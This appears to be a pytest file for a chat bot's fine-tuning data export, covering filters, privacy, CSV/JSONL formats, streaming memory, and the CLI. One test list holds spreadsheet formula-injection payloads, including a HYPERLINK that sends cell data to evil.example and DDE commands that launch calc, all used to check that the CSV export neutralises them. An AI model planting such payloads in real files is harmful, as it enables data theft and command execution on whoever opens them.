"""The fine-tuning export: fields, filters, privacy, formats, streaming, and the CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert, update

import cli
from bot.db import repository as repo
from bot.db.database import Database
from bot.db.export import export_fields, parse_since, write_export
from bot.db.models import UP, StoredSample
from tests.bot.storage.factories import make_chat, make_sample, make_user

TRICKY_TEXT = 'line one\nline "two", with commas;\r\n和中文'


async def _seed(db: Database) -> dict[str, int]:
    async with db.sessions() as session:
        author = await make_user(session, display_name="Secret Name", telegram_id=555_000_111)
        fans = [await make_user(session) for _ in range(3)]
        chat = await make_chat(session, title="Secret Group", telegram_id=-555_000_222)
        liked = await make_sample(session, user=author, chat=chat, text=TRICKY_TEXT)
        meh = await make_sample(session, user=author, chat=chat, model_name="zh-word")
        old = await make_sample(session, user=author, chat=chat)
        for fan in fans:
            await repo.rate(session, sample_id=liked.id, user_id=fan.id, score=UP)
        await repo.rate(session, sample_id=meh.id, user_id=fans[0].id, score=UP)
        await repo.rate(session, sample_id=meh.id, user_id=fans[1].id, score=-1)
        long_ago = datetime(2020, 1, 1, tzinfo=UTC)
        await session.execute(
            update(StoredSample).where(StoredSample.id == old.id).values(created_at=long_ago)
        )
        await session.commit()
        return {"liked": liked.id, "meh": meh.id, "old": old.id}


async def _export(db: Database, **kwargs: Any) -> str:
    out = io.StringIO(newline="")
    async with db.sessions() as session:
        await write_export(session, out, **kwargs)
    return out.getvalue()


async def test_jsonl_has_settings_and_votes_and_no_personal_data(db: Database) -> None:
    ids = await _seed(db)
    text = await _export(db, format="jsonl")
    rows = [json.loads(line) for line in text.splitlines()]
    assert [row["id"] for row in rows] == sorted(ids.values())
    liked = next(row for row in rows if row["id"] == ids["liked"])
    assert list(liked) == export_fields()
    assert liked["text"] == TRICKY_TEXT and liked["seed"] == "the free spirit "
    assert (liked["up_votes"], liked["down_votes"], liked["net_votes"]) == (3, 0, 3)
    assert (liked["temperature"], liked["length"]) == (0.5, 40) and "top_k" not in liked
    assert liked["chat_type"] == "group" and liked["delivered"] is True
    assert datetime.fromisoformat(liked["created_at"]).tzinfo is not None
    for secret in ("Secret", "555000111", "555000222"):
        assert secret not in text


async def test_include_users(db: Database) -> None:
    await _seed(db)
    rows = [json.loads(line) for line in (await _export(db, format="jsonl", include_users=True)).splitlines()]
    assert list(rows[0]) == export_fields(include_users=True)
    assert rows[0]["user_display_name"] == "Secret Name"
    assert rows[0]["user_telegram_id"] == 555_000_111
    assert rows[0]["chat_telegram_id"] == -555_000_222 and rows[0]["chat_title"] == "Secret Group"


async def test_filters(db: Database) -> None:
    ids = await _seed(db)

    async def exported(**kwargs: Any) -> list[int]:
        text = await _export(db, format="jsonl", **kwargs)
        return [json.loads(line)["id"] for line in text.splitlines()]

    assert await exported(min_votes=1) == [ids["liked"]]
    assert await exported(min_votes=0) == sorted(ids.values())  # net 0 includes unrated
    assert await exported(model_name="zh-word") == [ids["meh"]]
    assert await exported(since=datetime(2021, 1, 1, tzinfo=UTC)) == sorted([ids["liked"], ids["meh"]])
    assert await exported(since=datetime.now(UTC) + timedelta(days=1)) == []
    assert await exported(
        since=parse_since("2019-12-31"), min_votes=0, model_name="nietzsche-char"
    ) == sorted([ids["liked"], ids["old"]])


async def test_csv_round_trip(db: Database) -> None:
    ids = await _seed(db)
    text = await _export(db, format="csv", batch_size=1)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == export_fields()
    by_id = {int(row["id"]): row for row in rows}
    assert by_id[ids["liked"]]["text"] == TRICKY_TEXT
    assert by_id[ids["liked"]]["delivered"] == "1"
    assert by_id[ids["meh"]]["net_votes"] == "0"
    with pytest.raises(ValueError, match="format"):
        await _export(db, format="xml")


# Cells a spreadsheet would run as a formula (OWASP's CSV injection list, full-width forms too).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
HARMLESS = ["a=b", "'already quoted", " =leading space is not a formula", "1-2", "中文=1"]


async def _seed_formulas(db: Database) -> dict[str, str]:
    async with db.sessions() as session:
        chat = await make_chat(session, title="=cmd|' /C calc'!A0")
        users = {}
        for value in [*FORMULAS, *HARMLESS]:
            user = await make_user(session, display_name=value)
            sample = await make_sample(session, user=user, chat=chat, seed=value, text=value)
            await repo.rate(session, sample_id=sample.id, user_id=user.id, score=-1)  # net -1: a number
            users[str(sample.id)] = value
        await session.commit()
        return users


async def test_csv_neutralises_formulas_and_jsonl_stays_exact(db: Database) -> None:
    """Before: a seed like =HYPERLINK(...) went into the CSV raw, and a spreadsheet ran it."""
    originals = await _seed_formulas(db)
    rows = list(csv.DictReader(io.StringIO(await _export(db, format="csv", include_users=True), newline="")))
    assert len(rows) == len(originals)
    for row in rows:
        value = originals[row["id"]]
        expected = "'" + value if value in FORMULAS else value
        assert (row["seed"], row["text"], row["user_display_name"]) == (expected, expected, expected)
        assert row["chat_title"] == "'=cmd|' /C calc'!A0"
        assert row["net_votes"] == "-1" and row["down_votes"] == "1"  # numbers stay numbers
    jsonl = [
        json.loads(line) for line in (await _export(db, format="jsonl", include_users=True)).splitlines()
    ]
    assert [(r["seed"], r["text"], r["user_display_name"]) for r in jsonl] == [
        (originals[str(r["id"])],) * 3 for r in jsonl
    ]
    assert {r["chat_title"] for r in jsonl} == {"=cmd|' /C calc'!A0"} and {r["net_votes"] for r in jsonl} == {
        -1
    }


def test_parse_since() -> None:
    assert parse_since("2024-03-01") == datetime(2024, 3, 1, tzinfo=UTC)
    assert parse_since("2024-03-01T12:30") == datetime(2024, 3, 1, 12, 30, tzinfo=UTC)
    assert parse_since("2024-03-01T12:30+02:00") == datetime(2024, 3, 1, 10, 30, tzinfo=UTC)
    with pytest.raises(ValueError):
        parse_since("yesterday")


async def _bulk_samples(db: Database, count: int) -> None:
    async with db.sessions() as session:
        user = await make_user(session)
        chat = await make_chat(session)
        row = {
            "user_id": user.id,
            "chat_id": chat.id,
            "seed": "s" * 60,
            "model_name": "m",
            "model_version": "1",
            "temperature": 0.5,
            "length": 400,
            "text": "x" * 400,
            "generation_ms": 5,
            "created_at": datetime.now(UTC),
        }
        await session.execute(insert(StoredSample), [row] * count)
        await session.commit()


async def _peak_export_memory(db: Database) -> tuple[int, int]:
    class Sink(io.StringIO):
        def write(self, s: str) -> int:  # count, don't keep: the output is not what we measure
            return len(s)

    tracemalloc.start()
    try:
        async with db.sessions() as session:
            count = await write_export(session, Sink(), format="jsonl", batch_size=200)
        return count, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


async def test_export_streams_in_constant_memory(db: Database) -> None:
    await _bulk_samples(db, 500)
    small_count, small_peak = await _peak_export_memory(db)
    await _bulk_samples(db, 4500)
    big_count, big_peak = await _peak_export_memory(db)
    assert (small_count, big_count) == (500, 5000)
    # Ten times the rows (~2.5 MB more data) must not cost anywhere near ten times the memory.
    assert big_peak < small_peak * 2 + 256 * 1024, (small_peak, big_peak)


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


async def test_cli_export(
    db: Database, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = await _seed(db)
    out = tmp_path / "good.csv"
    argv = [
        "export",
        "--format",
        "csv",
        "--min-votes",
        "1",
        "--database-url",
        database_url,
        "--out",
        str(out),
    ]
    assert await asyncio.to_thread(cli.main, argv) == 0
    rows = await asyncio.to_thread(_read_csv, out)
    assert [int(row["id"]) for row in rows] == [ids["liked"]] and rows[0]["text"] == TRICKY_TEXT
    assert "exported 1 samples" in capsys.readouterr().err
    assert not await asyncio.to_thread(lambda: list(tmp_path.glob("*.partial")))

    argv = ["export", "--since", "2021-01-01", "--model", "zh-word", "--database-url", database_url]
    assert await asyncio.to_thread(cli.main, argv) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [ids["meh"]]


def test_cli_export_friendly_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = f"sqlite+aiosqlite:///{tmp_path / 'nope.sqlite3'}"
    assert cli.main(["export", "--database-url", missing]) == 2
    assert "run `lstmbot db upgrade` first" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        cli.main(["export", "--since", "someday"])
